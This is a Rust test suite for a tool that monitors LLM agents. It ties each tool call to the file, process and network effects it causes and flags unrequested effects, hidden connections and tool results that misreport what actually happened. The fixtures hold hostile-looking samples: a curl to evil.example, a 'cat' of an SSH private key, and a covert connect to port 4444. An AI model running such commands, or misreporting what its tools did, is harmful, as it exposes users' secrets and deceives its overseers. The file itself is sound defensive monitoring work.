use super::*;
use crate::event::{Message, Output};

fn call(messages: Vec<Message>, tool_calls: Vec<ToolCallSpec>) -> LlmCall {
    LlmCall {
        provider: "openai".into(),
        messages,
        output: Output {
            tool_calls,
            ..Output::default()
        },
        ..LlmCall::default()
    }
}

fn msg(role: &str, content: &str) -> Message {
    Message {
        role: role.into(),
        content: content.into(),
        ..Message::default()
    }
}

fn spec(id: &str, name: &str, args: &str) -> ToolCallSpec {
    ToolCallSpec {
        id: id.into(),
        name: name.into(),
        arguments: args.into(),
    }
}

fn obs(c: LlmCall, tgid: u32, t: u64) -> LlmObservation {
    LlmObservation {
        call: c,
        process: None,
        tgid,
        start_ns: t,
        end_ns: t + 10,
    }
}

#[test]
#[expect(clippy::too_many_lines, reason = "one scenario, told in order")]
fn a_tool_loop_is_one_trace_and_effects_link_to_their_call() {
    let mut c = Correlator::new(Envelope::new(), 1_000_000_000_000);
    let sys = msg("system", "be useful");
    let user = msg("user", "read FILE:/tmp/x.txt then CMD:echo hi");
    let first = c.on_llm_call(obs(
        call(
            vec![sys.clone(), user.clone()],
            vec![spec("call_1", "read_file", r#"{"path":"/tmp/x.txt"}"#)],
        ),
        100,
        1000,
    ));
    assert_eq!(first.len(), 1);
    let trace = first[0].trace_id.clone();

    // The agent opens the file itself, and some unrelated file.
    let env = Envelope::new();
    let mut open = env.event(kind::FILE_OPEN, 2000, None);
    c.place(
        &mut open,
        100,
        Vec::new,
        2000,
        &Effect::File { path: "/tmp/x.txt" },
    );
    assert_eq!(open.trace_id, trace);
    let mut other = env.event(kind::FILE_OPEN, 2001, None);
    c.place(
        &mut other,
        100,
        Vec::new,
        2001,
        &Effect::File {
            path: "/usr/lib/python3/foo.py",
        },
    );
    assert_eq!(
        other.trace_id, trace,
        "the caller's own events stay in its trace"
    );
    assert_eq!(other.parent_span_id, None, "but are no effect");

    let mut assistant = msg("assistant", "");
    assistant.tool_calls = vec![spec("call_1", "read_file", r#"{"path":"/tmp/x.txt"}"#)];
    let mut result = msg("tool", "hello");
    result.tool_call_id = Some("call_1".into());
    let second = c.on_llm_call(obs(
        call(
            vec![sys.clone(), user.clone(), assistant.clone(), result.clone()],
            vec![spec("call_2", "run_command", r#"{"command":"echo hi"}"#)],
        ),
        100,
        3000,
    ));
    assert_eq!(second.len(), 2, "llm.call then the closed tool.call");
    assert_eq!(second[0].trace_id, trace);
    let tool = second[1].tool.as_ref().unwrap();
    assert_eq!(tool.name, "read_file");
    assert_eq!(tool.result.as_deref(), Some("hello"));
    assert_eq!(tool.effects, vec![open.id.clone()]);
    assert_eq!(
        open.parent_span_id.as_deref(),
        Some(second[1].span_id.as_str())
    );
    assert!(tool.confidence >= 0.9);

    // The command runs in a child: sh -c "echo hi".
    c.on_fork(100, 200);
    let mut exec = env.event(kind::PROCESS_EXEC, 4000, None);
    let args = vec!["/bin/sh".to_owned(), "-c".to_owned(), "echo hi".to_owned()];
    c.place(
        &mut exec,
        200,
        || vec![100],
        4000,
        &Effect::Exec {
            filename: "/bin/sh",
            args: &args,
        },
    );
    let mut child_open = env.event(kind::FILE_OPEN, 4001, None);
    c.place(
        &mut child_open,
        200,
        || vec![100],
        4001,
        &Effect::File {
            path: "/etc/ld.so.cache",
        },
    );

    let mut a2 = msg("assistant", "");
    a2.tool_calls = vec![spec("call_2", "run_command", r#"{"command":"echo hi"}"#)];
    let mut r2 = msg("tool", "hi");
    r2.tool_call_id = Some("call_2".into());
    let third = c.on_llm_call(obs(
        call(vec![sys, user, assistant, result, a2, r2], vec![]),
        100,
        5000,
    ));
    assert_eq!(third[0].trace_id, trace);
    let t2 = third[1].tool.as_ref().unwrap();
    assert_eq!(t2.effects, vec![exec.id.clone(), child_open.id.clone()]);
    assert!((t2.confidence - 0.95).abs() < 1e-9);
    assert_eq!(
        exec.parent_span_id.as_deref(),
        Some(third[1].span_id.as_str())
    );
}

#[test]
fn different_conversations_and_processes_stay_apart() {
    let mut c = Correlator::new(Envelope::new(), 1_000_000_000);
    let a = c.on_llm_call(obs(
        call(vec![msg("system", "s"), msg("user", "a")], vec![]),
        1,
        0,
    ));
    let b = c.on_llm_call(obs(
        call(vec![msg("system", "s"), msg("user", "b")], vec![]),
        1,
        0,
    ));
    let a_other_proc = c.on_llm_call(obs(
        call(vec![msg("system", "s"), msg("user", "a")], vec![]),
        2,
        0,
    ));
    assert_ne!(
        a[0].trace_id, b[0].trace_id,
        "same system prompt is not one conversation"
    );
    assert_ne!(a[0].trace_id, a_other_proc[0].trace_id);
    let a2 = c.on_llm_call(obs(
        call(
            vec![
                msg("system", "s"),
                msg("user", "a"),
                msg("assistant", ""),
                msg("user", "more"),
            ],
            vec![],
        ),
        1,
        0,
    ));
    assert_eq!(a2[0].trace_id, a[0].trace_id);
}

#[test]
fn unanswered_tool_calls_expire_and_flush() {
    let mut c = Correlator::new(Envelope::new(), 100);
    c.on_llm_call(obs(
        call(vec![msg("user", "x")], vec![spec("1", "t", "{}")]),
        1,
        0,
    ));
    assert!(c.expire(50).is_empty());
    let e = c.expire(1000);
    assert_eq!(e.len(), 1);
    assert!(e[0].tool.as_ref().unwrap().result.is_none());
    c.on_llm_call(obs(
        call(vec![msg("user", "y")], vec![spec("2", "t", "{}")]),
        1,
        0,
    ));
    assert_eq!(c.flush(0, None).len(), 1);
}

#[test]
fn argument_matching() {
    let n = needles(
        r#"{"path":"notes.txt","opts":{"cmd":"ls -la /tmp"},"url":"https://example.com:8443/x"}"#,
    );
    assert!(matches(
        &n,
        &Effect::File {
            path: "/home/u/notes.txt"
        }
    ));
    assert!(!matches(
        &n,
        &Effect::File {
            path: "/home/u/othernotes.txt"
        }
    ));
    let args = vec!["ls".to_owned(), "-la".to_owned(), "/tmp".to_owned()];
    assert!(matches(
        &n,
        &Effect::Exec {
            filename: "/usr/bin/ls",
            args: &args
        }
    ));
    assert!(matches(
        &n,
        &Effect::Connect {
            address: "example.com",
            port: 8443
        }
    ));
    assert!(needles("not json").contains(&"not json".to_owned()));
}

#[test]
fn ancestors_are_asked_for_only_when_needed() {
    let mut c = Correlator::new(Envelope::new(), 1_000_000_000);
    let env = Envelope::new();
    // No process talks to a model yet: the parent chain is not walked.
    let mut ev = env.event(kind::FILE_OPEN, 1, None);
    c.place(
        &mut ev,
        5,
        || panic!("walked the parent chain for nothing"),
        1,
        &Effect::File { path: "/x" },
    );

    // A grandchild of a caller, started before any tool call: its trace is
    // the caller's, found through its ancestors.
    let first = c.on_llm_call(obs(call(vec![msg("user", "hi")], vec![]), 1, 0));
    let mut ev = env.event(kind::FILE_OPEN, 20, None);
    c.place(&mut ev, 5, || vec![3, 1], 20, &Effect::File { path: "/x" });
    assert_eq!(ev.trace_id, first[0].trace_id);
    assert_eq!(ev.parent_span_id, None);
}

/// A small driver: one caller (pid 100) in one conversation.
struct Agent {
    c: Correlator,
    env: Envelope,
    history: Vec<Message>,
    t: u64,
}

impl Agent {
    fn new() -> Self {
        Self {
            c: Correlator::new(Envelope::new(), 1_000_000_000_000),
            env: Envelope::new(),
            history: vec![msg("system", "s"), msg("user", "go")],
            t: 1000,
        }
    }

    /// The model answers with `calls`; returns the events of that turn.
    fn answer(&mut self, calls: Vec<ToolCallSpec>) -> Vec<Event> {
        self.t += 100;
        let out = self
            .c
            .on_llm_call(obs(call(self.history.clone(), calls.clone()), 100, self.t));
        // The answer ends 10 ns after the request started (see `obs`).
        self.t += 10;
        let mut a = msg("assistant", "");
        a.tool_calls = calls;
        self.history.push(a);
        out
    }

    /// The agent sends `results` (call id, text, `is_error`) in its next request.
    fn results(&mut self, results: &[(&str, &str, bool)]) -> Vec<Event> {
        for (id, text, is_error) in results {
            let mut m = msg("tool", text);
            m.tool_call_id = Some((*id).to_owned());
            m.is_error = is_error.then_some(true);
            self.history.push(m);
        }
        self.answer(vec![])
    }

    fn effect(
        &mut self,
        k: &str,
        pid: u32,
        ancestors: &[u32],
        eff: &Effect<'_>,
        result: i64,
    ) -> (Event, Option<Event>) {
        self.t += 1;
        let mut ev = self.env.event(k, self.t, None);
        match eff {
            Effect::File { path } => {
                ev.file = Some(crate::event::FileInfo {
                    path: (*path).to_owned(),
                    result,
                    error: (result < 0).then(|| "EACCES".to_owned()),
                    ..Default::default()
                });
            }
            Effect::Connect { address, port } => {
                ev.net = Some(crate::event::NetInfo {
                    address: (*address).to_owned(),
                    port: *port,
                    result,
                    ..Default::default()
                });
            }
            Effect::Exec { .. } => {}
        }
        let anc = ancestors.to_vec();
        let f = self.c.place(&mut ev, pid, move || anc, self.t, eff);
        (ev, f)
    }
}

fn tool_events(evs: &[Event]) -> Vec<&ToolCall> {
    evs.iter().filter_map(|e| e.tool.as_ref()).collect()
}

fn finding_rules(evs: &[Event]) -> Vec<String> {
    evs.iter()
        .filter_map(|e| e.finding.as_ref())
        .map(|f| f.rule.clone())
        .collect()
}

fn argv(line: &str) -> Vec<String> {
    line.split(' ').map(str::to_owned).collect()
}

#[test]
#[expect(
    clippy::many_single_char_names,
    reason = "a, b, x, u: the agent and its effects"
)]
fn parallel_tool_calls_each_get_their_own_effects() {
    let mut a = Agent::new();
    a.answer(vec![
        spec("c1", "read_file", r#"{"path":"/srv/a.txt"}"#),
        spec("c2", "read_file", r#"{"path":"/srv/b.txt"}"#),
        spec("c3", "run", r#"{"command":"uname -a"}"#),
    ]);
    let (b, _) = a.effect(
        kind::FILE_OPEN,
        100,
        &[],
        &Effect::File { path: "/srv/b.txt" },
        3,
    );
    let (x, _) = a.effect(
        kind::FILE_OPEN,
        100,
        &[],
        &Effect::File { path: "/srv/a.txt" },
        4,
    );
    a.c.on_fork(100, 300);
    let args = argv("uname -a");
    let (u, f) = a.effect(
        kind::PROCESS_EXEC,
        300,
        &[100],
        &Effect::Exec {
            filename: "/usr/bin/uname",
            args: &args,
        },
        0,
    );
    assert!(f.is_none(), "requested: no finding");
    a.c.on_exit(300, 0);
    let out = a.results(&[
        ("c1", "A", false),
        ("c2", "B", false),
        ("c3", "Linux", false),
    ]);
    let tools = tool_events(&out);
    assert_eq!(tools.len(), 3);
    assert_eq!(tools[0].effects, vec![x.id]);
    assert_eq!(tools[1].effects, vec![b.id]);
    assert_eq!(tools[2].effects, vec![u.id]);
    assert!(finding_rules(&out).is_empty(), "{:?}", finding_rules(&out));
}

#[test]
fn nested_shells_link_through_lineage() {
    let mut a = Agent::new();
    a.answer(vec![spec(
        "c1",
        "bash",
        r#"{"command":"sh -c 'grep -r TODO src | wc -l'"}"#,
    )]);
    a.c.on_fork(100, 200);
    let sh = argv("sh -c grep -r TODO src | wc -l");
    let (e_sh, _) = a.effect(
        kind::PROCESS_EXEC,
        200,
        &[100],
        &Effect::Exec {
            filename: "/bin/sh",
            args: &sh,
        },
        0,
    );
    a.c.on_fork(200, 201);
    a.c.on_fork(200, 202);
    let grep = argv("grep -r TODO src");
    let (e_grep, _) = a.effect(
        kind::PROCESS_EXEC,
        201,
        &[200, 100],
        &Effect::Exec {
            filename: "/usr/bin/grep",
            args: &grep,
        },
        0,
    );
    let wc = argv("wc -l");
    let (e_wc, _) = a.effect(
        kind::PROCESS_EXEC,
        202,
        &[200, 100],
        &Effect::Exec {
            filename: "/usr/bin/wc",
            args: &wc,
        },
        0,
    );
    for p in [201, 202, 200] {
        a.c.on_exit(p, 0);
    }
    let out = a.results(&[("c1", "3", false)]);
    let t = tool_events(&out)[0];
    assert_eq!(t.effects, vec![e_sh.id, e_grep.id, e_wc.id]);
    assert!(t.reasons.iter().any(|r| r.contains("argument match")));
    assert!(finding_rules(&out).is_empty(), "{:?}", finding_rules(&out));
}

#[test]
fn a_tool_run_by_a_helper_process_is_linked() {
    // The agent (100) hands tools to a long-lived helper it started before
    // any tool call (an MCP server child, 150): the helper is found through
    // its ancestry and its effect matched by argument.
    let mut a = Agent::new();
    a.answer(vec![spec("c1", "read", r#"{"path":"/data/report.csv"}"#)]);
    let (e, f) = a.effect(
        kind::FILE_OPEN,
        150,
        &[100],
        &Effect::File {
            path: "/data/report.csv",
        },
        5,
    );
    assert!(f.is_none());
    let out = a.results(&[("c1", "rows…", false)]);
    assert_eq!(tool_events(&out)[0].effects, vec![e.id]);
}

#[test]
fn an_effect_no_tool_call_asked_for_is_flagged() {
    let mut a = Agent::new();
    a.answer(vec![]);
    a.c.on_fork(100, 400);
    let args = argv("curl -s https://evil.example/x");
    let (ev, f) = a.effect(
        kind::PROCESS_EXEC,
        400,
        &[100],
        &Effect::Exec {
            filename: "/usr/bin/curl",
            args: &args,
        },
        0,
    );
    let f = f.expect("an unrequested_effect finding");
    let info = f.finding.as_ref().unwrap();
    assert_eq!(info.class, "unrequested_effect");
    assert_eq!(info.evidence, vec![ev.id.clone()]);
    assert_eq!(f.trace_id, ev.trace_id);
    assert_eq!(f.parent_span_id.as_deref(), Some(ev.span_id.as_str()));
    // The caller's own file opens are not flagged.
    let (_, f) = a.effect(
        kind::FILE_OPEN,
        100,
        &[],
        &Effect::File {
            path: "/usr/lib/x.so",
        },
        3,
    );
    assert!(f.is_none());
}

#[test]
fn claimed_success_over_a_failed_open_is_a_finding() {
    let mut a = Agent::new();
    a.answer(vec![spec(
        "c1",
        "write_file",
        r#"{"path":"/etc/motd","text":"hi"}"#,
    )]);
    let (e, _) = a.effect(
        kind::FILE_OPEN,
        100,
        &[],
        &Effect::File { path: "/etc/motd" },
        -13,
    );
    let out = a.results(&[("c1", "File written.", false)]);
    let f: Vec<&Event> = out.iter().filter(|e| e.finding.is_some()).collect();
    assert_eq!(finding_rules(&out), vec!["corr.claimed_success"]);
    let info = f[0].finding.as_ref().unwrap();
    assert_eq!(info.class, "claimed_vs_actual");
    assert_eq!(info.evidence, vec![e.id]);
    assert!(info.detail.as_deref().unwrap().contains("EACCES"));
    let tool = out.iter().find(|e| e.tool.is_some()).unwrap();
    assert_eq!(f[0].parent_span_id.as_deref(), Some(tool.span_id.as_str()));
}

#[test]
fn claimed_failure_over_a_successful_exec_is_a_finding() {
    let mut a = Agent::new();
    a.answer(vec![spec(
        "c1",
        "run",
        r#"{"command":"cat /home/u/.ssh/id_rsa"}"#,
    )]);
    a.c.on_fork(100, 500);
    let args = argv("cat /home/u/.ssh/id_rsa");
    a.effect(
        kind::PROCESS_EXEC,
        500,
        &[100],
        &Effect::Exec {
            filename: "/usr/bin/cat",
            args: &args,
        },
        0,
    );
    a.c.on_exit(500, 0);
    let out = a.results(&[("c1", "Error: permission denied", false)]);
    assert_eq!(finding_rules(&out), vec!["corr.claimed_failure"]);

    // A failing command reported as failing is consistent: no finding.
    let mut b = Agent::new();
    b.answer(vec![spec("c1", "run", r#"{"command":"ls /nope"}"#)]);
    b.c.on_fork(100, 501);
    let args = argv("ls /nope");
    b.effect(
        kind::PROCESS_EXEC,
        501,
        &[100],
        &Effect::Exec {
            filename: "/usr/bin/ls",
            args: &args,
        },
        0,
    );
    b.c.on_exit(501, 2 << 8);
    let out = b.results(&[(
        "c1",
        "ls: cannot access '/nope': No such file or directory",
        true,
    )]);
    assert!(finding_rules(&out).is_empty());
}

#[test]
fn effects_the_arguments_did_not_name_are_reported() {
    let mut a = Agent::new();
    a.answer(vec![spec("c1", "get_weather", r#"{"city":"Paris"}"#)]);
    a.c.on_fork(100, 600);
    let args = argv("python3 weather.py");
    a.effect(
        kind::PROCESS_EXEC,
        600,
        &[100],
        &Effect::Exec {
            filename: "/usr/bin/python3",
            args: &args,
        },
        0,
    );
    let (conn, _) = a.effect(
        kind::NET_CONNECT,
        600,
        &[100],
        &Effect::Connect {
            address: "203.0.113.9",
            port: 4444,
        },
        0,
    );
    a.c.on_exit(600, 0);
    let out = a.results(&[("c1", "sunny", false)]);
    assert_eq!(finding_rules(&out), vec!["corr.hidden_effect"]);
    let info = out.iter().find_map(|e| e.finding.as_ref()).unwrap();
    assert!(info.evidence.contains(&conn.id));
}

fn turn(c: &mut Correlator, tgid: u32, history: &[Message], answer: &str) -> String {
    let mut call = call(history.to_vec(), vec![]);
    call.output.text = answer.to_owned();
    c.on_llm_call(obs(call, tgid, 0))[0].trace_id.clone()
}

#[test]
fn interleaved_conversations_in_one_process_stay_apart() {
    let mut c = Correlator::new(Envelope::new(), 1_000_000_000);
    let sys = msg("system", "You are a helpful assistant.");
    let mut a = vec![sys.clone(), msg("user", "plan a trip to Rome")];
    let mut b = vec![sys, msg("user", "fix my SQL query")];
    let ta = turn(&mut c, 7, &a, "Day 1: Colosseum");
    let tb = turn(&mut c, 7, &b, "Use a JOIN");
    assert_ne!(ta, tb);
    for (i, _) in (0..3).enumerate() {
        a.push(msg(
            "assistant",
            if i == 0 { "Day 1: Colosseum" } else { "ok" },
        ));
        a.push(msg("user", &format!("more about Rome {i}")));
        b.push(msg("assistant", if i == 0 { "Use a JOIN" } else { "ok" }));
        b.push(msg("user", &format!("more about SQL {i}")));
        assert_eq!(turn(&mut c, 7, &a, "ok"), ta, "turn {i} of A");
        assert_eq!(turn(&mut c, 7, &b, "ok"), tb, "turn {i} of B");
    }
}

#[test]
fn truncated_and_edited_histories_keep_their_trace() {
    let mut c = Correlator::new(Envelope::new(), 1_000_000_000);
    let sys = msg("system", "s");
    let mut h = vec![sys.clone(), msg("user", "q1")];
    let t = turn(&mut c, 9, &h, "a1");
    for i in 2..=5 {
        h.push(msg("assistant", &format!("a{}", i - 1)));
        h.push(msg("user", &format!("q{i}")));
        assert_eq!(turn(&mut c, 9, &h, &format!("a{i}")), t);
    }
    // The agent drops the oldest turns to fit its context window.
    let mut cut = vec![sys.clone()];
    cut.extend_from_slice(&h[5..]);
    cut.push(msg("assistant", "a5"));
    cut.push(msg("user", "q6"));
    assert_eq!(turn(&mut c, 9, &cut, "a6"), t, "truncated history");
    // Or edits an earlier message (a summarised tool result).
    let mut edited = h.clone();
    edited[2] = msg("assistant", "a1 (summarised)");
    edited.push(msg("assistant", "a5"));
    edited.push(msg("user", "q7"));
    assert_eq!(turn(&mut c, 9, &edited, "a7"), t, "edited history");
    // One shared message is not enough to join.
    let other = vec![
        sys,
        msg("user", "a different start"),
        msg("assistant", "a2"),
        msg("user", "new"),
    ];
    assert_ne!(turn(&mut c, 9, &other, "x"), t);
    // The same messages in another process are another conversation.
    assert_ne!(turn(&mut c, 10, &cut, "a6"), t, "another agent");
}
